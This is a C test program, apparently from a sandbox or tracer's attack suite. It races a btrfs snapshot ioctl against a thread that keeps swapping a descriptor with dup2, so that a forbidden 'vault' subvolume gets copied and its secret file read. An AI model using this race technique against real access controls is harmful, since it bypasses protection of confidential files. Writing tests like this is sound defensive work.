/* btrfs_snap_race.c CLEAN VAULT DIR [ROUNDS]: a btrfs snapshot of a subvolume the table lets be
 * copied, its source swapped for one it does not between the check and the kernel's fdget
 * (close 27).  CLEAN and VAULT are subvolumes (VAULT holds secret.txt, which the table refuses
 * to read); the snapshot's struct names descriptor number N, which a thread keeps swapping
 * between CLEAN's and VAULT's root with dup2 while the main thread makes snapshot DIR/cK of
 * whatever N holds (BTRFS_IOC_SNAP_CREATE_V2), ROUNDS times (default 150).  After each, the
 * copy's secret.txt is read.
 * ESCAPED when a copy holds the secret; BLOCKED (with the counts) otherwise.  The tracer freezes
 * the tree for a snapshot it decided and compares the descriptor again (snapshot_stayed).
 * Root or the subvolumes' owner, a btrfs (the test mounts an image).  Build with -pthread.
 */
#include "attack.h"

#include <linux/btrfs.h>
#include <sys/ioctl.h>

static int clean_fd, vault_fd, slot;
static volatile int stop;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(vault_fd, slot);
        dup2(clean_fd, slot);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4 && argc != 5)
        blocked("usage: %s CLEAN VAULT DIR [ROUNDS]", argv[0]);
    int rounds = argc == 5 ? atoi(argv[4]) : 150;
    clean_fd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    vault_fd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int dir = open(argv[3], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (clean_fd < 0 || vault_fd < 0 || dir < 0)
        blocked("open: %s", ename(errno));
    slot = dup(clean_fd);
    if (slot < 0)
        blocked("dup: %s", ename(errno));
    pthread_t thread;
    if (pthread_create(&thread, NULL, flipper, NULL) != 0)
        blocked("pthread_create failed");
    int made = 0, refused = 0, other = 0;
    for (int round = 0; round < rounds; round++) {
        struct btrfs_ioctl_vol_args_v2 args;
        memset(&args, 0, sizeof args);
        args.fd = slot;
        snprintf(args.name, sizeof args.name, "c%d", round);
        if (ioctl(dir, BTRFS_IOC_SNAP_CREATE_V2, &args) < 0) {
            if (errno == EPERM)
                refused++;
            else
                other++;
            continue;
        }
        made++;
        char copy[4096];
        snprintf(copy, sizeof copy, "%s/c%d/secret.txt", argv[3], round);
        int fd = open(copy, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        char buf[256];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0 && memmem(buf, (size_t)n, SECRET_MAGIC, strlen(SECRET_MAGIC))) {
            stop = 1;
            escaped("read the secret through snapshot %s (round %d)", copy, round);
        }
        close(fd);
    }
    stop = 1;
    pthread_join(thread, NULL);
    blocked("%d snapshots made, none of the vault; %d refused (EPERM), %d failed otherwise",
            made, refused, other);
}
